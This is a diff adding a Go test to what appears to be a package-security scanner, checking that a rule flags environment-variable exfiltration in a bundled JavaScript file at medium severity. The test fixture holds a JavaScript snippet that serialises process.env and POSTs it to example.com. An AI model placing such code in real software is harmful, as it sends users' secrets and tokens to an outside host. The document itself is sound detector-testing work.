@@ -310,3 +310,20 @@ func TestMinifiedIsCappedAtMedium(t *testing.T) {
 		t.Fatalf("want one medium, low-confidence DM-JS-010, got %+v", r.Findings)
 	}
 }
+
+// A webpack/esbuild bundle (corepack.cjs) concatenates many modules:
+// flows between them are capped at medium.
+func TestBundleIsCappedAtMedium(t *testing.T) {
+	r := scan(t, map[string]string{
+		"dist/lib/tool.cjs": "var require_a = __commonJS({ \"a.js\"(exports) {} });\n" + `const https = require('https');
+const data = JSON.stringify(process.env);
+const req = https.request({ hostname: 'example.com', path: '/c', method: 'POST' });
+req.write(data);
+req.end();
+`,
+	})
+	fs := analyzertest.Find(r, "DM-JS-010", "tool.cjs")
+	if len(fs) != 1 || fs[0].Severity != finding.Medium || !strings.Contains(fs[0].Message, "bundle") {
+		t.Fatalf("want one medium DM-JS-010 in the bundle, got %+v", r.Findings)
+	}
+}
